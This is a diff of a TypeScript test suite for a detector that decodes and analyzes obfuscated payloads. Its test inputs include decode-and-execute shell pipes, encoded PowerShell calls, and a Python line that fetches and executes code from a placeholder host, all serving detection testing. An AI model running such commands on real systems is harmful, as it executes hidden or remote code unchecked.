@@ -25,7 +25,7 @@ function only(detector: Detector, text: string): Finding {
 
 const messages = ({ trace }: Finding): string => trace.map(({ message }) => message).join("\n");
 
-describe("what a pipe of the shell decodes", () => {
+describe("the payload of a decoder in a pipe", () => {
   it.each([
     ["echo aGVsbG8= | base64 -d | sh", "hello"],
     ["echo 'aGVsbG8=' | base64 --decode | sudo bash -s -- --yes", "hello"],
@@ -53,7 +53,7 @@ describe("what a pipe of the shell decodes", () => {
     "cat payload | base64 -d | sh",
     'pwsh -EncodedCommand "$P"',
     "powershell -enc $p",
-  ])("%s is no literal: nothing is said of it", (text) => {
+  ])("%s is not a literal, so there is no payload", (text) => {
     const finding = only(extended, text);
     expect(finding.payload).toBeUndefined();
     expect(messages(finding)).not.toContain("the payload");
@@ -66,14 +66,14 @@ describe("what a pipe of the shell decodes", () => {
       `echo ${base64("no gzip")} | base64 -d | gunzip | sh`,
       "it is not compressed data: invalid gzip data",
     ],
-  ])("%s cannot be decoded, and the trace says so", (text, reason) => {
+  ])("%s cannot be decoded, and the trace reports it", (text, reason) => {
     const finding = only(extended, text);
     expect(finding.payload).toBeUndefined();
     expect(messages(finding)).toContain(`the payload cannot be shown: ${reason}`);
   });
 });
 
-describe("what a call decodes", () => {
+describe("the payload of a decoder call", () => {
   it.each([
     ["python", `import base64\nexec(base64.b64decode("${base64("print(1)")}"))`],
     [
@@ -134,7 +134,7 @@ describe("what a call decodes", () => {
     "exec(base64.b64decode(payload))",
     "eval(atob(process.env.CODE))",
     "exec(base64.b64decode(sys.argv[1]))",
-  ])("%s is no literal: nothing is said of it", (text) => {
+  ])("%s is not a literal, so there is no payload", (text) => {
     const finding = only(contract, text);
     expect(finding.payload).toBeUndefined();
     expect(messages(finding)).not.toContain("the payload");
@@ -152,15 +152,15 @@ describe("what a call decodes", () => {
       'eval(CryptoJS.AES.decrypt("U2FsdGVk", "key"))',
       "CryptoJS.AES.decrypt is not decoded here",
     ],
-  ])("in %s %s cannot be decoded, and the trace says so", (tag, code, reason) => {
+  ])("in %s %s cannot be decoded, and the trace reports it", (tag, code, reason) => {
     expect(messages(only(extended, fence(tag, code)))).toContain(
       `the payload cannot be shown: ${reason}`,
     );
   });
 });
 
-describe("what a payload holds", () => {
-  it("is read by the detector, and part of the trace", () => {
+describe("the content of a payload", () => {
+  it("is analyzed, and its findings are part of the trace", () => {
     const finding = only(extended, `echo ${base64(PIPE)} | base64 -d | sh`);
     expect(finding.payload?.findings).toMatchObject([
       { rule: "bash/fetch-pipe", text: PIPE, span: [0, PIPE.length] },
@@ -170,7 +170,7 @@ describe("what a payload holds", () => {
     );
   });
 
-  it("is read as the language that executes it", () => {
+  it("is read in the language that executes it", () => {
     const code =
       "import urllib.request\nexec(urllib.request.urlopen('https://x.example/a.py').read())";
     expect(
@@ -179,7 +179,7 @@ describe("what a payload holds", () => {
     ).toMatchObject([{ rule: "python/fetch-execute" }]);
   });
 
-  it("is opened again, so deep and no deeper", () => {
+  it("is decoded repeatedly up to a depth", () => {
     const layers = Array.from({ length: 5 }).reduce<string>(
       (inner) => `echo ${base64(inner)} | base64 -d | sh`,
       "echo hi",
@@ -194,7 +194,7 @@ describe("what a payload holds", () => {
     expect(depths).toEqual(["open", "open", "open", "closed"]);
   });
 
-  it("has an escape for what commands a terminal or is not seen, and its places are those of the escaped text", () => {
+  it("escapes control and invisible characters, and has places in the escaped text", () => {
     const { payload } = only(
       extended,
       `echo ${base64(`\x1b[2J\u202e\n${PIPE}\n\u0007`)} | base64 -d | sh`,
@@ -205,14 +205,14 @@ describe("what a payload holds", () => {
     ]);
   });
 
-  it("is bytes where it is no text", () => {
+  it("is shown as bytes if it is not text", () => {
     expect(
       only(extended, `echo ${base64(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff]))} | base64 -d | sh`)
         .payload?.text,
     ).toBe("\\x7fELFÿ");
   });
 
-  it("is shown from its beginning where it is long, also where little is unpacked to much", () => {
+  it("is shown up to a length, also if a short text is decompressed to a long one", () => {
     const long = only(
       extended,
       fence("sh", `echo ${base64("echo hi\n".repeat(1500))} | base64 -d | sh`),
@@ -229,7 +229,7 @@ describe("what a payload holds", () => {
     expect(packed).toMatchObject({ truncated: true, findings: [] });
   });
 
-  it("belongs to findings alone: what is warned against or printed is decoded by nobody", () => {
+  it("is decoded only for findings, not for dismissed matches", () => {
     const { findings, notes } = extended.detect(
       `Never run \`echo ${base64(PIPE)} | base64 -d | sh\`.`,
     );
